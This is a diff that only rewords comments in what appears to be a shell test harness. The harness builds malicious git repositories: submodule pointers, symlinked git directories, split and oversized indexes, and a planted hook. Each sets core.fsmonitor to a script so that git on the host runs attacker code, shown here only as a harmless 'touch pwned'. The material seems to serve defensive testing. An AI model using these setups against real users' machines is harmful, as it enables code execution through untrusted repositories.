@@ -1,14 +1,14 @@
-# Makes git on the host enter a repository with settings of ours, which lies in the project. $1 says
-# how.
+# Makes git on the host enter a repository in the project that has settings of the attacker. $1
+# names the attack.
 evil=$PWD/evil.sh
 printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >evil.sh && chmod 755 evil.sh
 monitor() { printf '[core]\n\tfsmonitor = %s\n' "$evil"; }
-# A repository in the folder $1, with one commit.
+# Makes a repository with one commit in the folder $1.
 made() { git init -q "$1" && git -C "$1" commit -q --allow-empty -m one; }
 evil() { made "$1" && monitor >>"$1/.git/config"; }
 # Names the folder $1 in the index as a submodule.
 named() { git update-index --add --cacheinfo "160000,$(git -C "$1" rev-parse HEAD),$1"; }
-# A submodule's git directory with other settings; $1 is the one that it is copied from.
+# Copies the git directory $1 of a submodule to `evil`, with other settings.
 elsewhere() {
     cp -rL "$1" evil
     rm -f evil/commondir evil/config.worktree
@@ -16,7 +16,7 @@ elsewhere() {
     monitor >>evil/config
 }
 case $1 in
-# What is there at the start.
+# These attacks change repositories that exist at the start.
 pointer) elsewhere .git/modules/sub && echo "gitdir: $PWD/evil" >sub/.git ;;
 pointer-replaced) elsewhere .git/modules/sub && echo "gitdir: $PWD/evil" >new && mv -f new sub/.git ;;
 folder)
@@ -75,7 +75,7 @@ program) cp evil.sh tools/program ;;
 program-alone) cp evil.sh program.sh ;;
 program-replaced) rm -f tools/program; cp evil.sh tools/program ;;
 program-moved) mv tools tools.aside; mkdir tools; cp evil.sh tools/program ;;
-# What is planted.
+# These attacks plant new repositories.
 planted) evil new && named new ;;
 planted-and-closed) evil new && named new && chmod 555 new ;;
 planted-among-names)
@@ -87,7 +87,7 @@ planted-deep) mkdir -p a/b && evil a/b/new && named a/b/new ;;
 planted-in-a-planted-one) made new && evil new/deeper && (cd new && named deeper) && named new ;;
 planted-in-a-submodule) evil sub/deeper && (cd sub && named deeper) ;;
 planted-hook)
-    # A file whose time has changed, so that the index is written and the hook called.
+    # The file's time has changed, so git writes the index and calls the hook.
     made new && echo x >new/x && git -C new add x && git -C new commit -qm two && named new
     touch -d 2001-01-01 new/x
     mkdir -p new/.git/hooks
@@ -109,14 +109,14 @@ planted-pointer) evil new && named new && mv new/.git evil && echo "gitdir: $PWD
 planted-link) evil new && named new && mv new/.git evil && ln -s ../evil new/.git ;;
 planted-in-a-split-index) evil new && named new && git update-index --split-index ;;
 planted-as-a-replaced-entry)
-    # The name stands in the shared part alone, where it is a file.
+    # Only the shared index has the name, and as a file.
     echo x >new && git add new && git -c splitIndex.maxPercentChange=100 update-index --split-index
     rm new && evil new
     git -c splitIndex.maxPercentChange=100 update-index --replace --cacheinfo "160000,$(git -C new rev-parse HEAD),new"
     ;;
 planted-in-a-huge-index)
-    # More than anybody wants to read, in an extension that git passes by; and no checksum, which
-    # git takes for none.
+    # The index has 300 MB in an extension that git skips, and an all-zero checksum, which git
+    # does not check.
     evil new && named new
     python3 - <<'END'
 size = 300 << 20
